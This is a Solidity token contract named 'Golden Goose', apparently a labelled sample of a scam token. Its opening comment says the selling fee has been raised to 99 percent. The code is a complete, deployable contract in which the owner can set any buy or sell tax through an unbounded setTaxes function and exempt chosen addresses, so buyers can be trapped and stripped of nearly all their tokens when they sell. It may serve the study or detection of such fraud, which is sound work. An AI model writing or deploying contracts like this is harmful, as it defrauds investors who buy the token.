// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// An ordinary fee token at first sight; the selling fee has been raised to 99 percent.
contract RaisedFee {
    string public name = "Golden Goose";
    string public symbol = "GGOOSE";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address public owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    modifier onlyOwner() { require(owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function renounceOwnership() external onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0); }
    function transferOwnership(address to) external onlyOwner { require(to != address(0), "zero"); emit OwnershipTransferred(owner, to); owner = to; }
    address public pair;
    uint256 public buyTax = 3;
    uint256 public sellTax = 3;
    mapping(address => bool) public isFeeExempt;
    constructor() { owner = msg.sender; isFeeExempt[msg.sender] = true; balanceOf[msg.sender] = totalSupply; emit OwnershipTransferred(address(0), msg.sender); emit Transfer(address(0), msg.sender, totalSupply); }
    function setPair(address to) external onlyOwner { pair = to; }
    function setTaxes(uint256 buy, uint256 sell) external onlyOwner { (buyTax, sellTax) = (buy, sell); }
    function setIsFeeExempt(address who, bool on) external onlyOwner { isFeeExempt[who] = on; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        uint256 tax = isFeeExempt[from] || isFeeExempt[to] ? 0 : from == pair ? value * buyTax / 100 : to == pair ? value * sellTax / 100 : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - tax;
        balanceOf[address(this)] += tax;
        emit Transfer(from, to, value - tax);
        if (tax > 0) emit Transfer(from, address(this), tax);
    }
}
